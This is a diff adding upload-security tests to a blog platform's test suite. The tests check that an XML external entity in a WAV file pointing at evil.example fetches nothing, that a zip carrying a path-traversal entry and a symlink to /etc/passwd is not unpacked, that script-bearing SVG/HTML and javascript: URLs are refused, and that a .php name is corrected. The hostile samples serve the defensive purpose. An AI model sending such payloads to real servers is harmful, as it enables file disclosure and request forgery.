@@ -4,6 +4,7 @@ import http from 'node:http';
 import { beforeEach, expect, test } from 'vitest';
 import { saveSettings } from '../../src/base/settings/settings.ts';
 import { attachmentSettings } from '../../src/attachments/settings.ts';
+import { keepBytes } from '../../src/media/keep.ts';
 import { startBlog } from '../blog.ts';
 import { docx, filesIn, gif, jpeg, mp4, ole, pdf, png, sendAhead, zip } from './files.ts';
 
@@ -197,3 +198,43 @@ function multipart(body: Buffer): Promise<{ status: number; body: { id: string; 
     request.end(body);
   });
 }
+
+test('sound that names a foreign document fetches nothing (B8)', async () => {
+  const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>';
+  const wav = Buffer.concat([Buffer.from('RIFF\xff\0\0\0WAVEiXML\x7b\0\0\0', 'latin1'), Buffer.from(xml)]);
+
+  const answer = await send('a.wav', wav);
+  await site.work();
+
+  expect(answer.status).toBe(201);
+  expect(site.fetched).toEqual([]);
+});
+
+test('an archive is never unpacked (B11)', async () => {
+  const before = filesIn(site).length;
+
+  const answer = await send('a.zip', zip({ '../../../escaped.txt': 'x', 'link -> /etc/passwd': '' }));
+  await site.work();
+
+  expect(answer.status).toBe(201);
+  expect(filesIn(site).length).toBe(before + 1);
+});
+
+test.each([
+  ['SVG', Buffer.from(svg)],
+  ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
+  ['nothing known', Buffer.from('javascript:alert(1)')],
+])('a fetched “picture” that is %s is not kept (A12)', async (_what, body) => {
+  const before = filesIn(site);
+
+  const keeping = keepBytes(site.blog, { name: 'photo.png', body, source: 'embed' });
+
+  await expect(keeping).rejects.toMatchObject({ status: 415 });
+  expect(filesIn(site)).toEqual(before);
+});
+
+test('a fetched picture with a wrong name gets the right one (A12)', async () => {
+  const media = await keepBytes(site.blog, { name: 'photo.php', body: jpeg, source: 'embed' });
+
+  expect(media).toMatchObject({ name: 'photo.jpg', mime_type: 'image/jpeg' });
+});
